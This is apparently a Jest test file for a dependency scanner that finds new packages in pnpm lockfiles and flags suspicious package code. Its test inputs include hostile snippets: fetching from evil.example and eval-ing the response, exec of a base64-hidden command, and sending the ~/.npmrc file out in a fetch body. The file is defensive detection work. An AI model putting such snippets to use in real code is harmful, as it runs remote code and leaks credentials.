import { describe, expect, it } from '@jest/globals';
import { changedPackages } from '../../src/delivery/scan/changed-packages.js';
import { suspicionsOf } from '../../src/delivery/scan/suspicions.js';

const lockfile = (...names: string[]): string => ["lockfileVersion: '9.0'", 'packages:', ...names.map((name) => `  '${name}':\n    resolution: {integrity: sha512-x}`), ''].join('\n');

describe('packages that are new', () => {
  it('are those that the lockfile before does not name, a new version too', () => {
    expect(changedPackages(lockfile('a@1.0.0', '@s/b@2.0.0'), lockfile('a@1.0.1', '@s/b@2.0.0', 'c@1.0.0'))).toEqual(['a@1.0.1', 'c@1.0.0']);
  });

  it('are all of them without a lockfile before', () => {
    expect(changedPackages(null, `# pnpm itself\nlockfileVersion: '9.0'\n---\n${lockfile('a@1.0.0')}`)).toEqual(['a@1.0.0']);
  });
});

describe('a package is strange', () => {
  const whatOf = (text: string, scripts?: Record<string, string>) => suspicionsOf({ scripts }, [{ name: 'index.js', text }]).map(({ what }) => what);

  it.each([
    ['const c = await fetch("https://evil.example"); eval(await c.text());', 'runs text as code'],
    [`require('https').get(u, (r) => new Function(r)())`, 'runs text as code'],
    [`require("child_process").exec(Buffer.from("${'QUJD'.repeat(600)}", "base64").toString())`, 'hides text'],
    ['const _0x12ab = ["a"]; eval(_0x12ab[0])', 'hides text'],
    [`fetch(u, { body: fs.readFileSync(home + '/.npmrc') })`, 'reads where secrets lie'],
  ])('%s', (text, says) => {
    expect(whatOf(text).join()).toContain(says);
  });

  it('that runs something when it is installed', () => {
    expect(whatOf('', { postinstall: 'node setup.js', test: 'jest' })).toEqual(['runs "node setup.js" at postinstall']);
  });

  it.each(['export const fetchAll = () => fetch("/x");', 'eval("1")', 'import { spawn } from "node:child_process";'])('and not by one of these alone: %s', (text) => {
    expect(whatOf(text)).toEqual([]);
  });
});
